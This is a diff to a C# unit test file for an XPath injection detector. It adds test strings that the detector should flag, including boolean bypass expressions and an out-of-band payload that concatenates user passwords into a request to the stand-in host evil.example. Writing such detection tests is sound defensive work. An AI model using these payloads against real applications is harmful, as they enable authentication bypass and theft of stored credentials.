@@ -14,6 +14,10 @@ public sealed class XPathInjectionTests
     [InlineData("')]|//*|//*[('", Confidence.High)]
     [InlineData("' or substring(//user[1]/password,1,1)='a", Confidence.High)]
     [InlineData("1 or count(//*)>0", Confidence.Medium)]
+    [InlineData("1 or true()", Confidence.Medium)]
+    [InlineData("' or contains(name,'adm') or '", Confidence.High)]
+    [InlineData("count(/child::node())", Confidence.Medium)]
+    [InlineData("' and doc(concat('http://evil.example/',//user/password))='1", Confidence.High)]
     [InlineData("' and doc('http://evil.example/')='", Confidence.High)]
     [InlineData("' or count(parent::*)=1 or '", Confidence.High)]
     public void An_expression_is_found(string value, Confidence confidence)
